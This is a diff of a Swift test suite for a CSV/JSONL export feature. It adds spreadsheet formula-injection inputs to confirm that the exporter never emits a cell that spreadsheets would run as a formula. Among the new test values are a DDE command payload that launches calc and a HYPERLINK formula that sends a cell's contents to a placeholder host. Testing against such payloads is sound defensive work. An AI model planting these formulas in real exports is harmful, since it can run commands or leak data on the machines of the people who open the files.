@@ -22,12 +22,14 @@ import Testing
       to: folder.appending(path: "workspace.json"), atomically: true, encoding: .utf8)
     let values = [
       "=1+1", "+1 555", "-2", "@x", "\t=1", "\r=1", "a,b", "say \"hi\"", "two\nlines", "＝1",
+      "＋1", "－1", "＠x", "\n=1", "\"=1\"", ",=1", "'=1", "=HYPERLINK(\"http://x.test?\"&A1,\"x\")",
+      "=cmd|' /C calc'!A0", "-1+1",
     ]
     let calls = values.enumerated().map { index, value in
       JSONValue.object([
         "type": .text("identify"), "userId": .text(index == 0 ? "=id" : "u\(index)"),
         "timestamp": .text("2026-01-01"),
-        "traits": .object(["a": .text(value), "n": .integer(index * 7 % 10)]),
+        "traits": .object(["a": .text(value), "n": .integer(index * 7 % 20)]),
       ]).compactText
     }
     try calls.joined(separator: "\n").write(
@@ -74,12 +76,13 @@ import Testing
   @Test(arguments: ["csv", "csv a n", "csv-unformatted", "csv-unformatted a"])
   func `no cell is taken as a formula, and every row has every column`(_ form: String) throws {
     let rows = cells(try text("/export \(form)"))
-    #expect(rows.count == 11)
+    #expect(rows.count == 21)
     #expect(Set(rows.map(\.count)).count == 1)
     for cell in rows.joined() {
       let first = cell.unicodeScalars.first
       #expect(
-        !["=", "+", "@", "\t", "\r", "＝"].contains(first) && (first != "-" || Double(cell) != nil))
+        !["=", "+", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"].contains(first)
+          && (first != "-" || Double(cell) != nil), "\(cell)")
     }
   }
 
@@ -93,7 +96,7 @@ import Testing
     let rows = try text("/export jsonl a").split(separator: "\n").map {
       try JSONReader.read(String($0))
     }
-    #expect(rows.count == 10)
+    #expect(rows.count == 20)
     #expect(rows.first?["id"] == .text("=id"))
     let values = rows.compactMap { $0["traits"]?["a"]?.stringValue }
     #expect(Set(values).isSuperset(of: ["=1+1", "\t=1", "two\nlines", "say \"hi\""]))
@@ -103,7 +106,7 @@ import Testing
     #expect(try text("/export ids 2") == "=id\nu1\n")
   }
 
-  @Test(arguments: [("by n", 0...9), ("by n desc", 0...9)])
+  @Test(arguments: [("by n", 0...19), ("by n desc", 0...19)])
   func `members are sorted by a trait`(_ order: String, _ range: ClosedRange<Int>) throws {
     var session = try session()
     guard case .members(let reply) = session.run("/preview 20 n \(order)") else {
@@ -122,7 +125,7 @@ import Testing
       Issue.record("nothing was written")
       return
     }
-    #expect(lines == ["wrote 10 of 10 profiles to \(path)"])
-    #expect(cells(try String(contentsOfFile: path, encoding: .utf8)).count == 11)
+    #expect(lines == ["wrote 20 of 20 profiles to \(path)"])
+    #expect(cells(try String(contentsOfFile: path, encoding: .utf8)).count == 21)
   }
 }
